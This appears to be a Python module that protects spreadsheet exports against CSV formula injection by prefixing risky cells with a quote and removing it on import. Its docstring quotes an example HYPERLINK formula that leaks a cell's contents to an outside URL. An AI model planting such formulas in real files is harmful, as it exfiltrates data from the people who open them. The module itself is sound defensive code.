"""Text written to CSV and XLSX files never becomes a formula; imports read it back exactly.

Spreadsheet programs run a cell that begins with ``=``, ``+``, ``-`` or ``@`` (also after a
tab or a carriage return) as a formula: an officer could plant
``=HYPERLINK("http://…?leak="&A1, "…")`` in a note that a planner opens. Following OWASP's
advice on CSV injection, such text is written with a single quote in front
(``neutralise``), which spreadsheets show as text; ``restore`` removes it again when a
file is imported. Text that already begins with a quote gets one more, so that ``restore``
gives back exactly what was written. Plain numbers ("-5", "99.8") are numbers, not
formulas, and stay as they are. In XLSX every text cell is also typed as a string
(``xlsx_row``), never as a formula.

Every export (public open data, the admin's export, the officer's template, the staff
workbooks, the whole-plan workbook) writes its cells through this module, and every
import reads them back through ``restore``. ``neutralise`` and ``restore`` are pure Python.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

from indicators.values import cell_text

__all__ = ["neutralise", "restore", "safe_dataset", "safe_row", "xlsx_row"]

QUOTE = "'"
# What a spreadsheet reads as the start of a formula (ASCII and full-width forms, which
# Japanese Excel also turns into formulas), and the invisible characters before one.
FORMULA_STARTS = frozenset("=+-@\t\r\n＝＋－＠")
_PLAIN_NUMBER = re.compile(r"[-+]?[0-9]+(?:\.[0-9]+)?")


def _needs_quote(text: str) -> bool:
    if not text or _PLAIN_NUMBER.fullmatch(text):
        return False
    return text[0] in FORMULA_STARTS or text[0] == QUOTE


def neutralise(value):
    """Text for a spreadsheet cell: quoted when a spreadsheet would run it; other values
    (numbers, dates, None) unchanged. ``restore(neutralise(text)) == text``."""
    if isinstance(value, str) and _needs_quote(value):
        return QUOTE + value
    return value


def restore(value):
    """The text ``neutralise`` was given: one leading quote removed where it added one.

    A quote typed by hand before ordinary text ("'abc") is kept."""
    if isinstance(value, str) and value.startswith(QUOTE) and _needs_quote(value[1:]):
        return value[1:]
    return value


def read_cell(value) -> str:
    """A cell an export of ours wrote, as the text it held: ``values.cell_text`` with the
    neutralising quote removed."""
    return restore(cell_text(value))


def safe_row(values: Iterable) -> list:
    """A row of cells for csv.writer or tablib, every text neutralised."""
    return [neutralise(value) for value in values]


def xlsx_row(sheet, values: Iterable) -> list:
    """A row for ``openpyxl`` ``sheet.append``: text neutralised and typed as a string
    cell (never a formula), numbers and dates as they are."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import Cell
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet

    make_cell = WriteOnlyCell if isinstance(sheet, WriteOnlyWorksheet) else Cell
    row = []
    for value in values:
        value = neutralise(value)
        if isinstance(value, str):
            cell = make_cell(sheet, value=value)
            cell.data_type = "s"
            row.append(cell)
        else:
            row.append(value)
    return row


def safe_dataset(dataset):
    """A copy of a ``tablib.Dataset`` with its headers and text cells neutralised, for
    ``dataset.export("csv")`` or ``("xlsx")``."""
    import tablib

    safe = tablib.Dataset(
        *(safe_row(row) for row in dataset),
        headers=safe_row(dataset.headers) if dataset.headers else None,
        title=dataset.title,
    )
    return safe
